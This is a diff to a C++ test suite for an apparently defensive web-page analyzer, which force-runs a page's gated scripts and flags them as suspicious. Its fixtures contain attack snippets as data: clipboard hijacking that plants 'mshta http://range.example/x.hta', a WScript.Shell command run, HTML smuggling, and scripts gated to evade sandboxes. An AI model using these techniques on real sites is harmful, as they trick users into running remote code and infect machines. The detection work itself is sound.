@@ -68,7 +68,7 @@ INSTANTIATE_TEST_SUITE_P(
             "never reached"},
         Row{"failing_before",
             "function f(o){var h=o.no.such.thing();var u='http://hidden.example/';location=u}"},
-        Row{"late", "setTimeout(function(){" + go + "},3600000)"},
+        Row{"late", "var n=0;setInterval(function(){if(++n==5000){" + go + "}},1000)", "n"},
         Row{"evaluated", "if(navigator.webdriver)eval(\"if(top!=self){\"+\"" + go + "}\")"},
         Row{"function_constructor", "var f=new Function('a',\"if(a){" + go + "}\");f(0)"},
         Row{"handler", "", "", "<p onmouseover=\"if(event.ctrlKey){" + go + "}\">x</p>"},
@@ -78,6 +78,8 @@ INSTANTIATE_TEST_SUITE_P(
             "try{var o=new ActiveXObject('Specimen.Player');if(o.version=='7')" + go + "}catch(e){}"}),
     [](const auto& row) { return row.param.name; });
 
+const std::string only_forced = "<script>if(screen.width==1)new Image().src='http://forced.example/'</script>";
+
 // Each script reports what it sees of itself.
 struct Unnoticed {
   const char* name;
@@ -85,13 +87,15 @@ struct Unnoticed {
 };
 class Checks : public ::testing::TestWithParam<Unnoticed> {};
 TEST_P(Checks, SeeNoDifference) {
+  // The second is there to show that the forced run did run.
   std::string page = std::string("<script>function report(x){new Image().src='http://said.example/'+x}\n") +
-                     GetParam().script + "</script>";
+                     GetParam().script + "</script>" + only_forced;
   intel::VisitRecord plain = visit_or_fail(offline(page, false));
   intel::VisitRecord forced = visit_or_fail(offline(page, true));
   ASSERT_EQ(plain.edges.size(), 1u);
+  EXPECT_TRUE(leads_to(forced, "http://forced.example/"));
   // What the forced run said is what the plain one said: else it would be one edge more.
-  EXPECT_EQ(forced.edges.size(), 1u) << forced.nodes.back().url;
+  EXPECT_EQ(forced.edges.size(), 2u) << forced.nodes.back().url;
 }
 INSTANTIATE_TEST_SUITE_P(
     Rows, Checks,
@@ -141,10 +145,11 @@ TEST(ForcedRun, EndsWhateverThePageDoes) {
                              "var t=Date.now();while(Date.now()-t<5000);location='http://late.example/'",
                              "for(var i=0;i<1e9;i++){try{x()}catch(e){continue}finally{if(i<0)break}}"}) {
     VisitOptions options = offline(
-        std::string("<iframe src=http://seen.example/></iframe><script>") + script + "</script>", true);
+        "<iframe src=http://seen.example/></iframe>" + only_forced + "<script>" + script + "</script>", true);
     options.max_script_time = std::chrono::milliseconds(300);
     intel::VisitRecord visit = visit_or_fail(options);
     EXPECT_TRUE(leads_to(visit, "http://seen.example/")) << script;
+    EXPECT_TRUE(leads_to(visit, "http://forced.example/")) << script;
   }
 }
 
@@ -206,6 +211,36 @@ TEST(ForcedRun, TellsHowThePagesOwnChecksWent) {
                         "navigator.userAgent: /MSIE 6/.test(ua) is false, line 3",
                         "navigator.javaEnabled: navigator.javaEnabled() is false, line 4",
                         "navigator.platform: navigator.platform has the value of case 2, line 5"}));
+}
+
+// Whatever would convict a page convicts it by force, too; and what the visit took apart is not taken apart
+// again.
+TEST(ForcedRun, TellsOfEveryKindOfDeed) {
+  const struct {
+    const char *name, *persona, *deed, *reason;
+  } rows[] = {
+      {"clipboard", "chrome-win10",
+       "var t=document.createElement('textarea');t.value='mshta http://range.example/x.hta';"
+       "document.documentElement.appendChild(t);t.select();document.execCommand('copy');t.remove()",
+       "put a command into the clipboard"},
+      {"command", "ie6-winxp", "new ActiveXObject('WScript.Shell').Run('specimen.exe')",
+       "has a command run: specimen.exe"},
+      {"file", "chrome-win10",
+       "var a=document.createElement('a');a.download='x.js';a.href='data:,WScript.Echo(1)';"
+       "document.documentElement.appendChild(a);a.click()",
+       "HTML smuggling"},
+  };
+  for (const auto& row : rows) {
+    SCOPED_TRACE(row.name);
+    VisitOptions options =
+        offline(std::string("<p>x</p><script>if(screen.width==1){") + row.deed + "}</script>", true);
+    options.persona = row.persona;
+    const intel::VisitRecord visit = visit_or_fail(options);
+    EXPECT_EQ(visit.verdict, intel::VisitVerdict::suspicious);
+    EXPECT_TRUE(std::ranges::any_of(visit.reasons, [&](const std::string& reason) {
+      return reason.find(row.reason) != std::string::npos && reason.find("by force") != std::string::npos;
+    })) << ::testing::PrintToString(visit.reasons);
+  }
 }
 
 // How many of the URLs that a plain visit does not find.
